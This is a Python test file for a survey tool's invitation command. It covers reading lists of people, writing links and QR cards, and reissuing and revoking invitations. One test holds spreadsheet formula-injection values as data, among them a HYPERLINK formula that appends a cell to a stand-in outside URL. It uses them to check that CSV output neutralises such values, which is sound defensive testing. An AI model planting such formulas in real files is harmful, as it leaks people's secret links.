"""`croupier invite`: whom it invites, what it writes, and what is counted, replaced and revoked."""

from __future__ import annotations

import asyncio
import csv
import re
from pathlib import Path

import pytest

from croupier.client.submission import new_client_key
from croupier.operator.invitation_cards import write_links
from croupier.operator.invitations import (
    People,
    invite_people,
    invited_people,
    read_people,
    revoke_invitations,
    who_has_not_answered,
)
from croupier.operator.roster import Enrolment, enrol, enrolled, read_keys
from croupier.protocol.identity import public_key_of
from croupier.protocol.invitations import Invitation
from croupier.protocol.names import Digest, RoundId
from tests.support import in_process
from tests.support.command_line import Beside, croupier
from tests.support.messages import naming
from tests.support.rounds import table
from tests.support.sheets import write_book
from tests.support.surveys import links_of, opened_survey, survey_file

PNG = b"\x89PNG\r\n"


def rows(*table: list[str]) -> list[tuple[int, list[str]]]:
    return list(enumerate(table, start=1))


def test_the_first_row_of_a_list_of_people_is_its_header() -> None:
    """Reproduction: the header was invited as a person unless it began with "label" or "name"."""
    people = read_people(rows(["person", "e-mail", ""], ["Ada", "ada@example.org"], ["", ""], ["Bob"]))
    assert people.columns == ("person", "e-mail")
    assert people.rows == (("Ada", "ada@example.org"), ("Bob", ""))
    assert people.labels == ["Ada", "Bob"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", ("0 people", "1..100000")),
        ("label\n", ("0 people", "1..100000")),
        ("label\nAda\nBob\nAda\n", ("'Ada'",)),
        ("label,mail\n,a@b.c\n", ("label",)),
        ("label\nAda\x1b[2J\n", ("control characters",)),
        ("label\x1b[2J\nAda\n", ("column 1", "control characters")),
        ("label\n" + "A" * 201, ("201 characters", "200")),
        ("label\nAda\nBob,b@c.d\n", ("line 3", 2, 1)),
        ("label,,mail\nAda,1,2\n", ("column 2", "''")),
        ("label,mail,mail\nAda,1,2\n", ("column 3", "'mail'")),
        ("label,link\nAda,https://a.example\n", ("column 2", "'link'")),
    ],
)
def test_people_who_cannot_be_invited_are_named(text: str, said: tuple[object, ...]) -> None:
    with pytest.raises(ValueError, match=naming(*said)):
        read_people(rows(*(line.split(",") for line in text.splitlines())))


def test_links_are_written_for_a_mail_merge_and_for_printing(tmp_path: Path) -> None:
    folder, link = tmp_path / "new", "https://gateway.example/participate/#invitation=x&round=y"
    write_links(folder, ("label", "mail"), [("<Ada>", "a@b.c")], [link], "2026-12-01T18:00:00Z", "Q & A", True)
    (row,) = csv.DictReader((folder / "links.csv").read_text().splitlines())
    assert row == {
        "label": "<Ada>",
        "mail": "a@b.c",
        "link": link,
        "expires": "2026-12-01T18:00:00Z",
        "qr": "qr/0001.png",
    }
    assert (folder / row["qr"]).read_bytes().startswith(PNG)
    cards = (folder / "cards.html").read_text()
    assert re.search(
        r'<h2>&lt;Ada&gt;</h2><svg viewBox="[^"]+" class=', cards
    )  # with a size of its own it would be cut off
    assert "<title>Q &amp; A</title>" in cards
    assert folder.stat().st_mode & 0o077 == 0
    write_links(tmp_path / "plain", ("label",), [("Ada",)], [link], "", "Q", False)
    assert (tmp_path / "plain" / "links.csv").read_text() == f"label,link,expires\nAda,{link},\n"


async def test_no_file_of_links_or_people_holds_a_formula(tmp_path: Path) -> None:
    """Reproduction: a spreadsheet ran a cell of people.csv in the file that has everybody's secret link."""
    label, mail = '=HYPERLINK("https://a.example/?"&B2)', "+cmd()"
    people = People(("label", "@mail"), ((label, mail),))
    async with table(tmp_path, 1) as at:
        survey, where, how = await opened_survey(at), at.inside.directory, at.inside.transport
        gateway = "https://gateway.example"
        settings = {"gateway": gateway, "qr_codes": False, "transport": how}
        await invite_people(where, survey.survey_id, people, tmp_path / "links", **settings)  # type: ignore[arg-type]
        await enrol(where, [Enrolment(public_key_of(new_client_key()).hex(), label)], how)
        written = [
            tmp_path / "links" / "links.csv",
            where / "operator" / "surveys" / survey.survey_id / "invitations.csv",
            where / "operator" / "enrolled.csv",
        ]
        for file in written:
            header, row = csv.reader(file.read_text().splitlines())
            assert not [cell for cell in (*header, *row) if cell.startswith(("=", "+", "@"))]
            assert dict(zip(header, row, strict=True))["label"] == f"'{label}"
        assert [person.label for person in invited_people(where, survey.survey_id)] == [label]
        assert [person.label for person in enrolled(where)] == [label]
        again = read_keys(list(enumerate(csv.reader(written[-1].read_text().splitlines()), start=1)), "enrolled.csv")
        assert [person.label for person in again] == [label]


def test_a_link_that_is_not_an_invitation_is_not_repeated() -> None:
    whole = Invitation(bytes(16), Digest(bytes(32)), RoundId("work-1"), 5)
    assert Invitation.read(f"https://a.example/participate/#{whole.fragment}") == whole
    for link in ("https://a.example/#key=secret", "https://a.example/#invitation=secret&deployment=&round=a", "secret"):
        with pytest.raises(ValueError, match=naming("invitation")) as refused:
            Invitation.read(link)
        assert "secret" not in str(refused.value)


async def test_invitations_are_listed_reissued_and_revoked(tmp_path: Path) -> None:
    async with table(tmp_path, 1) as at:
        survey, where, how = await opened_survey(at), at.inside.directory, at.inside.transport
        ada, *_ = await links_of(at, survey, tmp_path / "links", "Ada", "Bob", "Eve")
        read = Invitation.read(ada)
        assert read.deployment == at.deployment.fingerprint
        assert read.round_id == survey.round_ids()[0]
        listed = invited_people(where, survey.survey_id)
        assert [invitation.label for invitation in listed] == ["Ada", "Bob", "Eve"]
        assert listed[0].key == public_key_of(read.key(survey.hash)).hex()
        kept = (where / "operator" / "surveys" / "work-2026" / "invitations.csv").read_text()
        assert ada.partition("invitation=")[2][:22] not in kept
        with pytest.raises(ValueError, match=naming("'Bob'", "'work-2026'", "--reissue")):
            await links_of(at, survey, tmp_path / "more", "Dan", "Bob")
        with pytest.raises(ValueError, match=naming("links exists")):
            await links_of(at, survey, tmp_path / "links", "Dan")
        with pytest.raises(ValueError, match=naming("1970-01-01T00:00:01Z")):
            await links_of(at, survey, tmp_path / "more", "Dan", until=1)
        with pytest.raises(ValueError, match=naming("https://gateway")):
            await invite_people(where, survey.survey_id, People.labelled(["Dan"]), tmp_path / "more", transport=how)
        async with at.operator.client(tmp_path / "client") as client:
            await (await client.rounds_of())[0].submit("very", 1.0, invitation=ada)
        assert await who_has_not_answered(where, survey.survey_id, how) == ["Bob", "Eve"]
        assert await revoke_invitations(where, survey.survey_id, ["Eve"], how) == 1
        with pytest.raises(ValueError, match=naming("'Eve'", "'work-2026'")):
            await revoke_invitations(where, survey.survey_id, ["Eve"], how)
        gateway = {"gateway": "https://gateway.example", "qr_codes": False, "transport": how}
        bob = People.labelled(["Bob"])
        await invite_people(where, survey.survey_id, bob, tmp_path / "again", reissue=True, **gateway)  # type: ignore[arg-type]
        listed = invited_people(where, survey.survey_id)
        assert [(invitation.label, bool(invitation.revoked_at)) for invitation in listed] == [
            ("Ada", False),
            ("Bob", True),
            ("Eve", True),
            ("Bob", False),
        ]


@pytest.mark.slow
async def test_invitations_from_the_command_line(tmp_path: Path) -> None:
    """Over TLS, as the commands know no other way."""
    place, out, people = tmp_path / "d", tmp_path / "out", tmp_path / "people.xlsx"
    write_book(people, [("label", "room"), ("Ada", 7), ("Bob", None)])
    file = tmp_path / "survey.toml"
    questions = [question.model_dump(exclude_defaults=True) for question in survey_file().questions]

    ask = Beside(place).ask

    from croupier.operator.survey_file import written

    file.write_text(written({"name": "w", "title": "T", "consent": "C", "budgets": [1, 2]}, questions))
    gateway = ("--gateway", "https://gateway.example")
    async with in_process(place, 1):
        await ask("survey", "open", file)
        made = await ask("invite", "w", "--people", people, "--out", out, *gateway)
        assert made == {"invitations": 2, "folder": str(out)}
        assert len(list((out / "qr").iterdir())) == 2
        assert [line.split(",")[:2] for line in (out / "links.csv").read_text().splitlines()] == [
            ["label", "room"],
            ["Ada", "7"],
            ["Bob", ""],
        ]
        status = await ask("invite", "w", "--remind")
        assert status == {
            "survey_id": "w",
            "made": 2,
            "good": 2,
            "revoked": 0,
            "answered": 0,
            "remind": ["Ada", "Bob"],
        }
        await ask("invite", "w", "--reissue", "Ada", "--out", tmp_path / "again", "--no-qr", *gateway)
        assert await ask("invite", "w", "--revoke", "Bob") == {"revoked": 1}
        assert await ask("invite", "w", "--restore") == {"good": 1}
        said = await asyncio.to_thread(croupier, "invite", "w", "--status", "--dir", place)
        assert re.search(naming("3 invitations", 1, "2 revoked", 0), " ".join(said.stdout.split()))
        write_book(people, [("person", "e-mail"), ("Dan", "d@e.org"), ("Fay", "f@e.org")])
        more = ("invite", "w", "--people", people, "--no-qr", "--out", tmp_path / "more", *gateway, "--dir", place)
        said = await asyncio.to_thread(croupier, *more)
        assert re.search(naming("person, e-mail", "2 people", "'Dan'"), " ".join(said.stderr.split()))
        assert invited_people(place, "w")[-2].label == "Dan"
        both = ("invite", "w", "--count", "2", "--people", people, *gateway)
        said = await asyncio.to_thread(croupier, *both, "--dir", place, expect=2)
        assert "give --people, a file, or --count" in said.stderr
